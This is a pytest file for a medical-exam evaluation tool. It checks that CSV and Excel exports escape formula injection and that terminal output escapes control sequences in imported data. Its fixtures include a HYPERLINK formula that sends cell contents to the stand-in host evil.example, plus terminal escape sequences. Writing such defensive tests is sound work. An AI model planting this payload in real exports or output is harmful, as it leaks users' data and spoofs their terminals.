"""Hostile imported data: formulas in exported cells, terminal controls in printed text,
math markup and console markup in names. No export holds a live formula, no control
character reaches the terminal, and every name is drawn and printed as it is written."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from engine.cli import cli
from engine.consult.report.tables import render_table
from engine.core.runs import run
from engine.exam.dataset import ensure_sample, import_file
from engine.models.scripted import ScriptedModel, scripted_pool
from engine.reports.export import write_export
from engine.store.store import Store
from engine.text.columns import visible
from engine.text.sheets import FORMULA_STARTS, csv_cell, csv_text, formula_like

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
CONTROLS = "\x1b]0;owned\x07\x1b[2J\x00\u202e\x9b"
#: What a terminal acts on: C0 controls but the line break, DEL, C1, direction overrides.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def medexam(*args: str, input: str | None = None) -> str:
    result = CliRunner().invoke(cli, list(args), input=input)
    assert result.exit_code == 0, (result.output, result.exception)
    return result.output


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Store, str, int, int]:
    """A data set whose questions, options, types and names hold formulas and terminal
    controls, a generated run by a model named as a formula and a logprob run (negative
    log-probabilities); ``(store, data set, generate run, logprob run)``."""
    questions = [
        {
            "id": f"q{i}{CONTROLS}",
            "question": LINK if i == 0 else f"Q{i} {CONTROLS}\nsecond line",
            "options": ["@SUM(1+1)", "-2+3", f"+cmd {CONTROLS}", "=1", "plain"],
            "answer": "A",
            "explanation": f"=1+1 {CONTROLS}",
            "type1": "=TYPE()",
            "type2": f"-neg{CONTROLS}",
            "type3": "plain",
        }
        for i in range(3)
    ]
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(questions, ensure_ascii=False), encoding="utf-8")
    store = Store(tmp_path / "medexam.db")
    dataset = f"=evil{CONTROLS}"
    import_file(store, path, fmt="mcq", name=dataset)
    ids = []
    for name, method in (("=MODEL()", "generate"), (f"@model{CONTROLS}", "logprob")):
        model = ScriptedModel(name, replies=f"=RESP() {CONTROLS} 答案：A")
        settings = {"model": name, "method": method}
        ids.append(run(store, "exam", dataset, settings, pool=scripted_pool(model))["run_id"])
    yield store, dataset, ids[0], ids[1]
    store.close()


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(cells: list[str]) -> None:
    live = [c for c in cells if formula_like(c)]
    assert live == []


# -- formulas ------------------------------------------------------------------------------


def test_csv_cells_that_would_run_as_formulas_are_written_as_text():
    assert [csv_cell(f"{start}1+2") for start in FORMULA_STARTS] == [
        f"'{start}1+2" for start in FORMULA_STARTS
    ]
    assert [csv_cell(v) for v in (-0.05, -3, "-0.05", "+4", "1e-3", "plain", None)] == [
        -0.05,
        -3,
        "-0.05",
        "+4",
        "1e-3",
        "plain",
        None,
    ]
    assert csv_text([["=1", -2.5, None]]) == "'=1,-2.5,\r\n"


def test_runs_export_csv_holds_no_formula_and_keeps_negative_numbers(hostile):
    store, _dataset, generated, scored = hostile
    text = medexam("--db", store.path, "runs", "export", str(generated))
    cells = cells_of(text)
    assert_no_formula(cells)
    assert f"'{LINK}" in cells and "'=TYPE()" in cells and "'=RESP()" in text
    rows = list(
        csv.DictReader(io.StringIO(medexam("--db", store.path, "runs", "export", str(scored))))
    )
    assert float(rows[0]["extra_logprobs_A"]) < 0  # a plain number, no quote before it
    assert rows[0]["options"].startswith("A. @SUM(1+1)\nB. -2+3")  # not at a cell's start
    assert_no_formula([c for row in rows for c in row.values()])


def test_xlsx_export_stores_formulas_as_text_cells_and_numbers_as_numbers(hostile, tmp_path):
    store, _dataset, generated, scored = hostile
    for run_id in (generated, scored):
        path = tmp_path / f"run-{run_id}.xlsx"
        write_export(store, run_id, path)
        with zipfile.ZipFile(path) as book:
            sheets = [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in sheet for sheet in sheets)
        workbook = load_workbook(path)
        cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = {c.value: c.data_type for c in cells if isinstance(c.value, str)}
        assert texts.get("=TYPE()") == "s"
    answers = load_workbook(tmp_path / f"run-{generated}.xlsx")["answers"]
    header = [c.value for c in answers[1]]
    assert answers.cell(2, header.index("question") + 1).value == LINK
    logprob = load_workbook(tmp_path / f"run-{scored}.xlsx")["answers"]
    header = [c.value for c in logprob[1]]
    negative = logprob.cell(2, header.index("extra_logprobs_A") + 1)
    assert negative.data_type == "n" and negative.value < 0


def test_report_csv_holds_no_formula(hostile):
    store, _dataset, generated, scored = hostile
    text = medexam("--db", store.path, "report", str(generated), str(scored), "--format", "csv")
    cells = cells_of(text)
    assert_no_formula(cells)
    assert "'=MODEL()" in cells and "'=TYPE()" in cells


def test_the_consultation_table_csv_holds_no_formula():
    row = {"dataset": "=evil", "doctor": "@doc", "patient": "+pat", "accuracy": -1.5}
    cells = cells_of(render_table({"rows": [row], "warnings": []}, "csv"))
    assert_no_formula(cells)
    assert cells[13:16] == ["'=evil", "'@doc", "'+pat"] and cells[-1] == "-1.5"


# -- terminal controls ---------------------------------------------------------------------


def test_visible_escapes_every_control_and_keeps_wanted_line_breaks():
    assert visible(f"a{CONTROLS}b") == "a\\x1b]0;owned\\x07\\x1b[2J\\x00\\u202e\\x9bb"
    assert visible("one\ntwo\r", newlines=True) == "one\ntwo\\r"
    assert visible("华法林 ok") == "华法林 ok"


def test_exam_take_shows_imported_controls_escaped(hostile):
    store, dataset, _generated, _scored = hostile
    out = medexam(
        "--db",
        store.path,
        "exam",
        "take",
        "--dataset",
        dataset,
        "--limit",
        "2",
        "--in-order",
        input="A\nB\n",
    )
    assert not RAW_CONTROL.search(out), repr(out)
    assert (
        "Q1 \\x1b]0;owned\\x07\\x1b[2J\\x00\\u202e\\x9b\nsecond line" in out
    )  # its line break kept
    assert "解析：=1+1 \\x1b]0;owned" in out and "missed: q1\\x1b]0;owned" in out
    due = medexam("--db", store.path, "review", "due")
    assert not RAW_CONTROL.search(due) and "=evil\\x1b]0;owned" in due


def test_run_tables_show_imported_controls_escaped(hostile):
    store, _dataset, generated, scored = hostile
    for args in (
        ["runs", "list"],
        ["runs", "show", str(generated)],
        ["runs", "show", str(scored)],
        ["report", str(generated), str(scored)],
    ):
        out = medexam("--db", store.path, *args)
        assert not RAW_CONTROL.search(out), (args, out)
        assert "\\x1b]0;owned" in out, args


def test_console_markup_in_a_name_is_printed_as_written(tmp_path):
    store = Store(tmp_path / "m.db")
    dataset = ensure_sample(store)
    name = "[/x] [bold]model"
    model = ScriptedModel(name, replies="答案：A")
    run_id = run(store, "exam", dataset, {"model": name, "limit": 2}, pool=scripted_pool(model))[
        "run_id"
    ]
    out = medexam("--db", store.path, "report", str(run_id))
    assert name in out
    store.close()


# -- math markup ---------------------------------------------------------------------------


def test_names_with_math_markup_are_drawn_as_written_in_report_charts(tmp_path):
    store = Store(tmp_path / "m.db")
    dataset = ensure_sample(store)
    ids = []
    for name, method in ((r"$\frac{$", "logprob"), (r"$x^{$ and $", "generate")):
        model = ScriptedModel(name, replies="答案：A")
        settings = {"model": name, "method": method, "limit": 3}
        ids.append(str(run(store, "exam", dataset, settings, pool=scripted_pool(model))["run_id"]))
    page = medexam("--db", store.path, "report", *ids, "--format", "html")
    assert page.count("<svg") >= 2  # the interval chart and the reliability diagram
    store.close()
